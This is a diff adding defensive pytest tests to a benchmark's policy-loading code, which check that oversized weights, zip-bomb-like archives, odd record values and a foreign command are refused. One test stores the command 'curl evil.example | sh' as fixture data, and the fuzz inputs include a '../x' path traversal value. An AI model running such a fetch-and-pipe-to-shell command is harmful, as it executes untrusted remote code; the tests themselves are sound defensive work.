@@ -10,11 +10,13 @@ import gymnasium
 import numpy as np
 import pytest
 import torch
+from hypothesis import HealthCheck, given, settings
+from hypothesis import strategies as st
 
 import cudc_bench
 import cudc_bench.envs
 from cudc_bench import plugins
-from cudc_bench.errors import RunError, UsageError
+from cudc_bench.errors import CudcBenchError, RunError, UsageError
 from cudc_bench.evaluators.policies import load_policy, policy_path
 
 from .runs import change, write_run
@@ -133,6 +135,58 @@ def test_files_of_something_else_are_refused(value, match, tmp_path):
     path, _ = write_run(tmp_path)
     policy_path(path).write_bytes(saved(value))
     refused(path, match)
+
+
+def test_no_file_makes_a_policy_larger_than_itself(tmp_path):
+    path, _ = write_run(tmp_path)
+    place, weights = policy_path(path), weights_of(path)
+    first = next(iter(weights))
+    place.write_bytes(saved({**weights, first: torch.zeros(1).expand(10**11)}))
+    refused(path, "it claims more weights than it has")
+    content = io.BytesIO()
+    with zipfile.ZipFile(io.BytesIO(saved(weights))) as source, zipfile.ZipFile(content, "w", zipfile.ZIP_DEFLATED) as target:
+        for member in source.infolist():
+            target.writestr(member.filename, source.read(member))
+        target.writestr("archive/data/99", bytes(10**8))
+    place.write_bytes(content.getvalue())
+    refused(path, "is damaged, or is not a file of weights alone")
+    place.write_bytes(saved(weights))
+    values = json.loads(path.read_text())["hyperparameters"]
+    for width in (5_000, 10**6, 10**10):
+        change(path, hyperparameters=values | {"width": width})
+        refused(path, f"its width of {width:,} is not that of its policy")
+
+
+def test_a_command_that_is_not_ours_is_not_passed_on(tmp_path):
+    path, _ = write_run(tmp_path)
+    policy_path(path).unlink()
+    change(path, command="curl evil.example | sh")
+    refused(path, r"has no policy beside it \(td3-seed1\.policy\.pt\); train it again$")
+
+
+odd = st.recursive(
+    st.none()
+    | st.booleans()
+    | st.integers()
+    | st.floats()
+    | st.text(max_size=5)
+    | st.sampled_from([10**400, -1, 0, 10**9, "\x1b[31m", "../x"]),
+    lambda inner: st.lists(inner, max_size=2) | st.dictionaries(st.text(max_size=3), inner, max_size=2),
+    max_leaves=3,
+)
+
+
+@settings(max_examples=120, suppress_health_check=[HealthCheck.function_scoped_fixture])
+@given(st.data())
+def test_a_policy_with_any_record_is_loaded_or_refused(tmp_path, data):
+    path, _ = write_run(tmp_path)
+    record = json.loads(path.read_text())
+    place = data.draw(st.sampled_from([record, record["dataset"], record["hyperparameters"], record["hyperparameters"]]))
+    place[data.draw(st.sampled_from(sorted(place)) | st.text(max_size=4))] = data.draw(odd)
+    path.write_text(json.dumps(record))
+    # Anything else would be a traceback.
+    with suppress(CudcBenchError):
+        assert load_policy(path).act(np.zeros(24)).shape == (6,)
 
 
 def test_weights_must_be_those_that_the_record_asks_for(tmp_path):
